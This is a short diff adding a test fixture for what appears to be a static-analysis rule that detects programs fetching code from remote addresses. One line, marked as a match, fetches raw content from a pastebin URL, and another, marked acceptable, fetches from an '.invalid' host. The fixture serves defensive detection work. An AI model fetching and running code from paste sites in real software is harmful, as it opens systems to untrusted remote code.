@@ -1,0 +1,4 @@
+// ruleid: remote-code-program-from-address
+https.get("https://pastebin.com/raw/abc", cb);
+// ok: remote-code-program-from-address
+https.get("https://a.invalid/x.json", cb);
